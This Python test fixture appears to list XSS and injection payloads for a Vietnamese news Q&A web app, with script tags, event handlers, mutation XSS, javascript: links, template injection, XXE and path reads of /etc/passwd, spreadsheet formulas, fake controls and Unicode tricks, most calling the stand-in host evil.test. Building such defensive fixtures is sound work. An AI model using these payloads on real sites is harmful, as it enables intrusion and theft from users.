"""What an attacker writes into articles, file names, addresses and questions.

Script that runs counts itself in `window.__hoibao_ran`; elements carry the attribute `evil`; whatever is loaded comes from
`evil.test` or has `evil` in its path.
"""

__all__ = ["HIDDEN", "PAYLOADS", "as_shown"]

PAYLOADS = {
    # Script as such
    "script": "<script evil>__hoibao_ran++</script>",
    "script from elsewhere": "<script evil src=//evil.test/x.js></script>",
    "script in capitals": "<ScRiPt evil>__hoibao_ran++</sCrIpT >",
    "script split by a slash": "<script/evil>__hoibao_ran++</script>",
    "script nested": "<scr<script>ipt evil>__hoibao_ran++</scr</script>ipt>",
    "script after its end": "</script><script evil>__hoibao_ran++</script>",
    "script module": "<script type=module evil>import '//evil.test/x.js'</script>",
    "script left open": "<script evil>__hoibao_ran++//",
    "tag left open": "<img evil src=x onerror=__hoibao_ran++ ",
    "two brackets": "<<img evil src=x onerror=__hoibao_ran++>",
    # Event handlers
    "image error": "<img evil src=x onerror=__hoibao_ran++>",
    "image error, slashes": "<img/evil/src=x/onerror=__hoibao_ran++>",
    "image, two loads": "<img evil src=//evil.test/a.png srcset='//evil.test/b.png 2x' onload=__hoibao_ran++>",
    "out of a quote": '"><img evil src=x onerror=__hoibao_ran++>',
    "out of an apostrophe": "'><img evil src=x onerror='__hoibao_ran++'>",
    "handler in an attribute": "' onmouseover='__hoibao_ran++",
    "focus in an attribute": '" autofocus evil onfocus="__hoibao_ran++',
    "style in an attribute": '" style="animation:breathe 1s" onanimationstart="__hoibao_ran++',
    "backtick in an attribute": "` onmouseover=`__hoibao_ran++",
    "details": "<details evil open ontoggle=__hoibao_ran++>Chi tiết</details>",
    "video": "<video evil src=//evil.test/a.mp4 autoplay onloadstart=__hoibao_ran++></video>",
    "audio": "<audio evil src=x onerror=__hoibao_ran++></audio>",
    "source": "<picture evil><source srcset=//evil.test/a.webp><img src=x onerror=__hoibao_ran++></picture>",
    "body": "<body evil onload=__hoibao_ran++ onpageshow=__hoibao_ran++>",
    "marquee": "<marquee evil onstart=__hoibao_ran++>Tin nóng</marquee>",
    "popover": "<button evil popovertarget=x>Hỏi</button><p evil id=x popover onbeforetoggle=__hoibao_ran++>a</p>",
    "input": "<input evil autofocus onfocus=__hoibao_ran++>",
    "custom element": "<hoi-bao evil onclick=__hoibao_ran++ tabindex=0 onfocus=__hoibao_ran++>Hỏi</hoi-bao>",
    # SVG, MathML, mutation
    "svg": "<svg evil onload=__hoibao_ran++></svg>",
    "svg slash": "<svg/evil/onload=__hoibao_ran++>",
    "svg script": "<svg evil><script>__hoibao_ran++</script></svg>",
    "svg animate": "<svg evil><animate onbegin=__hoibao_ran++ attributeName=x dur=1s>",
    "svg use": "<svg evil><use href='//evil.test/x.svg#a'/></svg>",
    "svg foreign": "<svg evil><foreignObject><iframe srcdoc='<script>parent.__hoibao_ran++</script>'></foreignObject></svg>",
    "svg link": "<svg evil><a xlink:href='javascript:__hoibao_ran++'><text y=20>Đọc</text></a></svg>",
    "math link": "<math evil href='javascript:__hoibao_ran++'>Đọc</math>",
    "mutation, math": "<math evil><mtext></form><form><mglyph><style></math><img src onerror=__hoibao_ran++>",
    "mutation, noscript": '<noscript evil><p title="</noscript><img src=x onerror=__hoibao_ran++>">',
    "mutation, template": "<template evil><s><template><s><img src=x onerror=__hoibao_ran++></s></template>",
    "mutation, svg style": "<svg evil><style><img src='</style><img src=x onerror=__hoibao_ran++>'></svg>",
    "mutation, namespace": "<svg evil></p><title><a title='</title><img src=x onerror=__hoibao_ran++>'></svg>",
    # Links and addresses
    "script link": "<a evil href=javascript:__hoibao_ran++>đây</a>",
    "script link, tab": "<a evil href='java&#9;script:__hoibao_ran++'>đây</a>",
    "script link, entity": "<a evil href='&#106;avascript&colon;__hoibao_ran++'>đây</a>",
    "data link": "<a evil href='data:text/html,<script>opener.__hoibao_ran++</script>'>đây</a>",
    "bare script address": "javascript:__hoibao_ran++",
    "bare data address": "data:text/html;base64,PHNjcmlwdD5fX2hvaWJhb19yYW4rKzwvc2NyaXB0Pg==",
    "bare vbscript address": "vbscript:msgbox(1)",
    "address with a quote": 'http://evil.test/"onmouseover="__hoibao_ran++',
    "address with a user": "https://vietnamplus.vn@evil.test/",
    "address of a file": "file:///etc/passwd",
    "address of Gradio's files": "<img evil src=/gradio_api/file=evil><a evil href=/gradio_api/file=/etc/passwd>tệp</a>",
    "address of Gradio's proxy": "![](/gradio_api/proxy=http://evil.test/) /gradio_api/file=/etc/passwd",
    # Markdown and other markup
    "markdown image": "![](http://evil.test/a.png)",
    "markdown image, title": "![x](http://evil.test/x.png 'x')",
    "markdown image by reference": "![x][evil]\n[evil]: http://evil.test/x.png",
    "markdown link": "[đây](javascript:__hoibao_ran++)",
    "markdown link, data": "[đây](data:text/html,<script>__hoibao_ran++</script>)",
    "markdown html": "**đậm** <u evil onclick=__hoibao_ran++>đây</u>",
    "markdown autolink": "<javascript:__hoibao_ran++> <http://evil.test/>",
    "markdown mermaid": "```mermaid graph TD; A-->B; click A '//evil.test'```",
    "latex": "$$\\href{javascript:__hoibao_ran++}{x}$$ \\(\\includegraphics{//evil.test/a.png}\\)",
    "latex html": "$\\htmlData{evil=1}{x} \\htmlStyle{position:fixed}{x}$",
    # Templates
    "template literal": "${__hoibao_ran++}",
    "template literal, quoted": "`${__hoibao_ran++}`",
    "template literal, escaped": "\\${__hoibao_ran++} $\\{__hoibao_ran++}",
    "template literal, entity": "&#36;{__hoibao_ran++} &#36;&#123;__hoibao_ran++&#125;",
    "template, closing": "`);__hoibao_ran++;(`",
    "handlebars": "{{constructor.constructor('__hoibao_ran++')()}}",
    "handlebars blocks": "{{{value}}} {{#each this}}{{this}}{{/each}} {{> evil}}",
    "python format": "{0.__class__} {name} {} %s %(name)s",
    "javascript string": "\\'; __hoibao_ran++; //",
    "json end": '"}],"x":{"__proto__":{"evil":1}}',
    # Entities, ends of elements, comments
    "entities": "&lt;script&gt;__hoibao_ran++&lt;/script&gt; &#60;b evil&#62; &amp;amp; &lt",
    "ends of elements": "</textarea></title></style></noscript></script><b evil>",
    "ends of ours": "</p></div></section></blockquote></li></ol></mark></button><b evil>",
    "comment": "<!-- evil",
    "comment end": "--!> --> <b evil>",
    "conditional comment": "<!--[if gte IE 4]><script>__hoibao_ran++</script><![endif]-->",
    "cdata": "<![CDATA[<img evil src=x onerror=__hoibao_ran++>]]>",
    "processing instruction": "<?xml version='1.0'?><?php echo 1 ?>",
    "doctype entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    # Frames, forms, what changes the page
    "frame": "<iframe evil src=http://evil.test></iframe>",
    "frame with a document": "<iframe evil srcdoc='<script>parent.__hoibao_ran++</script>'></iframe>",
    "object": "<object evil data=//evil.test/a.swf></object>",
    "embed": "<embed evil src=//evil.test/a.svg>",
    "form": "<form evil action=http://evil.test><input name=q><button>Hỏi</button></form>",
    "form action": "<button evil formaction=javascript:__hoibao_ran++>Hỏi</button>",
    "refresh": "<meta evil http-equiv=refresh content='0;url=http://evil.test'>",
    "base": "<base evil href=http://evil.test/>",
    "stylesheet": "<link evil rel=stylesheet href=http://evil.test/a.css>",
    "preload": "<link evil rel=preload as=image href=//evil.test/a.png>",
    "style": "<style evil>body{display:none}</style>",
    "style import": "<style evil>@import '//evil.test/a.css';</style>",
    "style end": "</style><style evil>*{display:none!important}",
    "css": "} * { display: none !important; background: url(//evil.test/a.png) } {",
    "cover": "<div evil style='position:fixed;inset:0;background:red;z-index:99999'>che</div>",
    "table": "<table evil background=//evil.test/a.png><td width=99999>rộng",
    "textarea": "<textarea evil>gõ vào đây",
    "plaintext": "<plaintext evil>",
    "dialog": "<dialog evil open>Mật khẩu đã hết hạn</dialog>",
    # Controls that look like ours
    "false mark": '<button evil class="mark" data-open="0123456789abcdef" data-marker="1">[1]</button>',
    "false example": "<button evil data-ask='Xoá hết'>Xoá hết</button>",
    "false way back": "<a evil data-back='0' data-language='en' href='#'>Về các trích dẫn</a>",
    "false marks": "[1] [99] [1](#cit-1) [[1]]",
    "false ids": "<div evil id=question><div evil id=live class='answer'>Đúng vậy.</div></div>",
    "false attribute": '0123456789abcdef" data-ask="Xoá hết',
    # Characters
    "right to left": "\u202egnp.exe\u2066\u200f\u061c",
    "control characters": "\x00\x08\x1b[31m\x7f\x9b",
    "lone surrogates": "a\ud800b\udfffc",
    "line separators": "dòng\u2028__hoibao_ran++\u2029",
    "zero width": "<scr\u200bipt evil>__hoibao_ran++</scr\u200bipt>\u200d\ufeff",
    "look-alike brackets": "＜img evil src=x onerror=__hoibao_ran++＞ ‹script›",
    "overlong marks": "Z" + "\u0301\u0323" * 60,
    "wide script": "\ufdfd\U0001242b\ua9c5𒈙",
    "long word": "w" * 300,
    "spreadsheet": "=HYPERLINK(\"http://evil.test\",\"đây\") +1 @SUM(1) -1|cmd",
}  # fmt: skip
"""By name."""
HIDDEN = "\x00\x08\x1b\x7f\x9b\ud800\udfff\u202e\u2066\u200f\u061c"
"""The characters among them that must not reach the page as they are."""


def as_shown(text: str) -> str:
    """Return the text a reader should see of a hostile one."""
    text = text.replace("\u2028", "\n").replace("\u2029", "\n")
    return "".join("\N{REPLACEMENT CHARACTER}" if c in HIDDEN else c for c in text)
